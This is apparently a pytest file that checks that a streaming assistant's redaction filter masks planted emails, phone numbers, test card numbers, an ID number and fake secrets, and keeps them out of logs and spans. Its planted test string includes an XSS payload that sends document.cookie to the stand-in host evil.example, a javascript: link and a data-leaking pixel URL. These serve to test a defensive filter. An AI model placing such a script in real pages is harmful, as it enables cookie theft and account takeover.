"""One policy, three sinks: planted values never reach the client stream, the logs or the spans.

Every kind is planted in a question (with more in the URL and the User-Agent, which the server
span records) and in a model answer streamed by the real upstream simulator process, whose
tokenizer sends a digit-by-digit card number one digit per chunk.
"""

from __future__ import annotations

from collections.abc import Iterator

import httpx
import orjson
import pytest

from evals.upstream.config import SimulatorConfig
from evals.upstream.process import SimulatorProcess, start_simulator
from tests.safety.conftest import CANARY, BeaconFactory, model_settings, read_sinks
from tests.sse_client import parse_sse

DIGITS = "4012888888881881"  # a Luhn-valid test card, spelled out digit by digit below
RAW = {
    "email": ["jane.doe@example.com"],
    "phone": ["138 1234 5678", "13812345678", "+1 (415) 555-2671", "555-2671"],
    "card": ["4111-1111-1111-1111", "5500 0000 0000 0004", " ".join(DIGITS), DIGITS],
    "cn_id": ["11010519491231002X"],
    "secret": [
        "sk-proj-Zr8xKq2LmN4vB7tY1wE9uI3oP6aS5dF0",
        "eyJhbGciOiJIUzI1NiJ9.c2VjcmV0LXBheWxvYWQ",
    ],
    "markup": ["<script", "document.cookie", "javascript:", "evil.example"],
}
PLANTED = (
    "Email jane.doe@example.com, phone 138 1234 5678 or +1 (415) 555-2671. "
    "Cards 4111-1111-1111-1111 and 5500 0000 0000 0004; by digit " + " ".join(DIGITS) + ". "
    "ID 11010519491231002X. Key sk-proj-Zr8xKq2LmN4vB7tY1wE9uI3oP6aS5dF0, "
    "header Bearer eyJhbGciOiJIUzI1NiJ9.c2VjcmV0LXBheWxvYWQ. "
    "<script>fetch('https://evil.example/c?'+document.cookie)</script> "
    "[reset](javascript:alert(1)) ![pixel](https://evil.example/p.png?d=leak)"
)
ANSWER = f"{PLANTED} Marker {CANARY} and what follows it."
QUERY = "?email=jane.doe@example.com&card=4111-1111-1111-1111&id=11010519491231002X"
AGENT = "probe/1.0 (jane.doe@example.com; 138 1234 5678; 11010519491231002X)"


@pytest.fixture(scope="module")
def planted_upstream() -> Iterator[SimulatorProcess]:
    """The real simulator process, answering every request with the planted text."""
    with start_simulator(
        config=SimulatorConfig(ttft_ms=2, tokens_per_second=2000, answer=ANSWER)
    ) as process:
        yield process


def post_ask(url: str, question: str, *, query: str = "", agent: str = "tests") -> str:
    response = httpx.post(
        f"{url}/ask{query}", json={"question": question}, headers={"user-agent": agent}, timeout=30
    )
    return response.text


def upstream_deltas(upstream: SimulatorProcess) -> list[str]:
    """The text deltas the simulator streams for any request (the planted answer)."""
    body = {"model": "beacon-easy", "stream": True, "messages": [{"role": "user", "content": "?"}]}
    with httpx.stream("POST", f"{upstream.openai_base_url}/chat/completions", json=body) as sse:
        lines = [line[6:] for line in sse.iter_lines() if line.startswith("data: {")]
    return [
        choice["delta"].get("content", "")
        for chunk in map(orjson.loads, lines)
        for choice in chunk["choices"]
    ]


def test_card_digits_arrive_one_per_chunk(planted_upstream: SimulatorProcess) -> None:
    """The upstream really splits the spelled-out card: each digit is its own chunk."""
    deltas = upstream_deltas(planted_upstream)
    spelled = [f" {digit}" for digit in DIGITS]
    starts = [i for i, delta in enumerate(deltas) if deltas[i : i + len(spelled)] == spelled]
    assert len(starts) == 1


def test_no_planted_value_reaches_any_sink(
    beacon_factory: BeaconFactory,
    planted_upstream: SimulatorProcess,
    capfd: pytest.CaptureFixture[str],
) -> None:
    """Planted in questions, URL, User-Agent and answer, no raw value reaches a sink."""
    beacon = beacon_factory(**model_settings(planted_upstream.openai_base_url))
    bodies = [
        post_ask(beacon.url, f"Please help. {PLANTED}", query=QUERY, agent=AGENT),
        post_ask(beacon.url, f"Is {CANARY} the marker on my order?"),
        post_ask(beacon.url, "How do I request a refund?"),
    ]
    sinks = read_sinks(beacon, capfd, bodies, requests=len(bodies))
    leaks = {raw: sinks.holding(raw) for values in RAW.values() for raw in [*values, CANARY]}
    assert {raw: where for raw, where in leaks.items() if where} == {}
    assert "what follows it" not in sinks.stream  # the canary stopped the answer there


def test_answer_is_masked_per_kind_and_blocked_at_the_canary(
    beacon_factory: BeaconFactory, planted_upstream: SimulatorProcess
) -> None:
    """The planted answer streams with a placeholder per value, then the block message."""
    beacon = beacon_factory(**model_settings(planted_upstream.openai_base_url))
    events = parse_sse(post_ask(beacon.url, "How do I request a refund?"))
    text = "".join(event.data["text"] for event in events if event.event == "token")
    assert text.startswith("Email [email], phone [phone] or [phone]. Cards [card] and [card]; ")
    assert "by digit [card]. ID [id]. Key [secret], header Bearer [secret]" in text
    assert "[reset](alert(1))" in text and "Marker " in text
    counts = {
        event.data["kind"]: event.data["count"] for event in events if event.event == "redaction"
    }
    assert counts == {
        "email": 1,
        "phone": 2,
        "card": 3,
        "cn_id": 1,
        "secret": 2,
        "markup": 3,
        "canary": 1,
    }
    assert events[-1].event == "done" and events[-1].data["finish_reason"] == "content_filter"
    for kind, count in counts.items():
        assert beacon.metric("beacon_redactions_total", kind=kind) == count
